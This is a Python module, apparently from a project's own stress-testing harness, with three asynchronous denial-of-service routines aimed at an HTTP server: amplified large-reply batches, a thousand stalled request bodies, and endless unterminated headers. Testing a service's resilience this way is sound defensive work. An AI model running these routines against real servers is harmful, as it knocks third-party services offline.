"""Attacks that make a server hold bytes: large replies, held bodies, endless headers."""

from functools import partial

from service.attack.bodies import AMPLIFIED, MAX_BODY, posted
from service.attack.crowd import Outcomes, again_and_again, at_once
from service.attack.wire import Address, connected, exchange, read_reply

_BATCHES = 8
_STALLED = 1_000
_ENDLESS = 500
_HEADER_BYTES = 400_000
_PAUSE = 1
"""Seconds until one whose connection was closed tries again."""


async def batches(address: Address, seconds: float) -> Outcomes:
    """Ask for replies of 35.7 MB, eight at once."""
    request = posted("/v1/gradients", AMPLIFIED)
    return await again_and_again(_BATCHES, partial(exchange, address, request), seconds)


async def stalled_bodies(address: Address, seconds: float) -> Outcomes:
    """Send all but the last byte of the largest body, a thousand times."""
    request = posted("/v1/gradient", b" " * (MAX_BODY - 1), length=MAX_BODY)
    return await at_once(_STALLED, partial(exchange, address, request), seconds)


async def endless_headers(address: Address, seconds: float) -> Outcomes:
    """Send a header that does not end, as long as the server takes it, and then try again."""
    piece = b"a" * 4_000

    async def client() -> str:
        async with connected(address) as (reader, writer):
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: attack\r\nX-Endless: ")
            for _ in range(_HEADER_BYTES // len(piece)):
                writer.write(piece)
                await writer.drain()
            return (await read_reply(reader)).label

    return await again_and_again(_ENDLESS, client, seconds, pause=_PAUSE)
